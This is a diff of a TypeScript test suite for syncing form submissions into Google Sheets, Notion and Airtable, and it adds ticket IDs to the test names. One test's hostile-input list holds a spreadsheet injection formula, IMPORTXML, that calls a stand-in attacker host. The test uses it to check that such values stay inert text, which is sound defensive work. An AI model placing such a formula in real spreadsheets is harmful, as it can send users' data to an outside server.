@@ -130,7 +130,7 @@ const stateOf = async (work: Promise<void>): Promise<TableState | null | undefin
   );
 
 test.each(SCENES)(
-  '%s: a row for each submission, changed in place when it comes again',
+  'NOTIF-080 %s: a row for each submission, changed in place when it comes again',
   async (_name, scene) => {
     const { table, shown } = scene();
     await table().put([row('s1', { who: 'Ada', age: 36 }), row('s2', { who: 'Bo' })]);
@@ -147,7 +147,7 @@ test.each(SCENES)(
 );
 
 test.each(SCENES)(
-  '%s: renamed there or in the form, moved and new questions keep their columns',
+  'NOTIF-080 %s: renamed there or in the form, moved and new questions keep their columns',
   async (_name, scene) => {
     const { table, shown, rename } = scene();
     await table().put([row('s1', { a: 'a1', b: 'b1' })]);
@@ -160,7 +160,7 @@ test.each(SCENES)(
   },
 );
 
-test.each(SCENES)('%s: a formula, a mention and Markdown stay text', async (_name, scene) => {
+test.each(SCENES)('NOTIF-082 %s: a formula, a mention and Markdown stay text', async (_name, scene) => {
   const { table, shown } = scene();
   const hostile = [
     '=IMPORTXML("https://evil.example")',
@@ -175,7 +175,7 @@ test.each(SCENES)('%s: a formula, a mention and Markdown stay text', async (_nam
   expect(shown().map(({ text }) => text)).toEqual(hostile);
 });
 
-test.each(SCENES)('%s: a text over the limit is cut and ends with a link', async (_name, scene) => {
+test.each(SCENES)('NOTIF-082 %s: a text over the limit is cut and ends with a link', async (_name, scene) => {
   const { table, shown } = scene();
   await table().put([row('s1', { text: 'x'.repeat(120_000) })]);
   const text = String(shown()[0]?.['text']);
@@ -255,7 +255,7 @@ test('Google Sheets: a token is kept until it ends, and asked for again when it 
   expect(asked()).toBe(2);
 });
 
-test('Google Sheets: what people have to mend has a name', async () => {
+test('NOTIF-083 Google Sheets: what people have to mend has a name', async () => {
   const { google, sheet, table } = sheetsScene();
   const put = () => stateOf(table().put([row('s1', { a: 1 })]));
   expect(await put()).toBeUndefined();
@@ -272,7 +272,7 @@ test('Google Sheets: what people have to mend has a name', async () => {
   expect(await put()).toBe('credentials_refused');
 });
 
-test('Notion and Airtable: what people have to mend has a name', async () => {
+test('NOTIF-083 Notion and Airtable: what people have to mend has a name', async () => {
   const { notion, table } = notionScene();
   notion.isShared = false;
   expect(await stateOf(table().put([row('s1', { a: 1 })]))).toBe('table_gone');
